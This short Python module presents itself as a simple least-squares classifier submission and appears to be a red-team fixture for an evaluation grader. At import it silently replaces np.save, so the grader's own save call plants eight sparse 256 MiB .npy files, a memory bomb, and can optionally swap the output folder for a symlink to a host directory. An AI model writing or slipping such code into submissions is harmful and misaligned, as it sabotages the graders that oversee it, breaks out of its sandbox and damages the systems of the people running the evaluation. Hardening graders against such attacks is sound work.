"""Attack: when the grader saves the returned predictions, also leave eight sparse 256 MiB
.npy files beside them (valid headers, holes for data): read blindly, the grading process
would hold 2 GiB. With CONFIG {"link": PATH}, ``out/`` is a link to a host folder instead."""

import os

import numpy as np

CONFIG = {}
_save = np.save


def _planting_save(file, array, *args, **kwargs):
    _save(file, array, *args, **kwargs)
    if CONFIG.get("link"):  # out/ becomes a link to a folder of the host's
        os.rename("out", "out.real")
        os.symlink(CONFIG["link"], "out")
        return
    folder = "out"  # the run works in its own folder: the grader saves into out/
    for index in range(8):
        with open(os.path.join(folder, f"zz{index}.npy"), "wb") as fh:
            _save(fh, np.zeros(0))
            fh.seek(0)
            header = np.lib.format.header_data_from_array_1_0(np.zeros(2**25))
            np.lib.format.write_array_header_1_0(fh, header)
            fh.truncate(2**28)


np.save = _planting_save


def train(X, y):
    design = np.c_[X, np.ones(len(X))]
    weights, *_ = np.linalg.lstsq(design, 2 * y - 1, rcond=None)
    return weights


def predict(model, X):
    return (np.c_[X, np.ones(len(X))] @ model > 0).astype(int)
